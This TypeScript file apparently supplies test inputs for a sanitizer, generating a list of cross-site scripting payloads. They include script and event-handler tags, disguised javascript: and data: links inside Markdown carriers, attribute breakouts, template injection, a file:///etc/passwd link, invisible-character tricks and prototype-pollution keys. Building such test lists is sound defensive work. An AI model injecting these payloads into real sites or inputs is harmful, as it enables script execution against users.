// Texts that try to become code: by markup, by addresses, by attributes, by what a parser might overlook. Some are
// written out, most are made by crossing carriers with what they carry.

const CALLS = ["alert(1)", "globalThis.pwned=1", "fetch('/x')"];

const ELEMENTS = [
  "<script>CALL</script>",
  "<img src=x onerror=CALL>",
  "<svg onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<body onload=CALL>",
  "<iframe src=javascript:CALL>",
  "<iframe srcdoc='<script>CALL</script>'>",
  "<details open ontoggle=CALL>",
  "<input autofocus onfocus=CALL>",
  "<video><source onerror=CALL></video>",
  "<math><mtext></p><img src onerror=CALL>",
  "<style>@import 'javascript:CALL'</style>",
  "<a href=javascript:CALL>x</a>",
  "<object data=javascript:CALL>",
  "<embed src=javascript:CALL>",
  "<form action=javascript:CALL><button>x</button></form>",
  "<base href=javascript:CALL//>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<template><script>CALL</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<!--><img src=x onerror=CALL>-->",
  "\"><script>CALL</script>",
  "'-CALL-'",
  "</textarea><script>CALL</script>",
  "{{constructor.constructor('CALL')()}}",
  "${CALL}",
];

const ADDRESSES = [
  "javascript:CALL",
  "JaVaScRiPt:CALL",
  " javascript:CALL",
  "java\tscript:CALL",
  "java\nscript:CALL",
  "\u0001javascript:CALL",
  "javascript&colon;CALL",
  "javascript%3aCALL",
  "data:text/html,<script>CALL</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:CALL",
  "file:///etc/passwd",
  "blob:https://a.example/1",
  "https:javascript:CALL",
  "http://a.example/\" onclick=\"CALL",
  "https://a.example/'onmouseover='CALL",
  "mailto:a@a.example?body=<script>CALL</script>",
  "//a.example/CALL",
];

const CARRIERS = ["[x](ADDRESS)", "ADDRESS", "<ADDRESS>", "![x](ADDRESS)", "[x]: ADDRESS", "**[x](ADDRESS)**", "> [x](ADDRESS)"];

const ODD = [
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "[x](https://a.example \"onmouseover=alert(1)\")",
  "\u202e<script>alert(1)</script>",
  "\u2066javascript:alert(1)\u2069",
  "\0<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u{1f600}<svg/onload=alert(1)>",
  "__proto__",
  "constructor",
  "[x](__proto__)",
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => CALLS.map((call) => element.replaceAll("CALL", call))),
  ...CARRIERS.flatMap((carrier) => ADDRESSES.map((address) => carrier.replace("ADDRESS", () => address.replaceAll("CALL", "alert(1)")))),
  ...ODD,
];
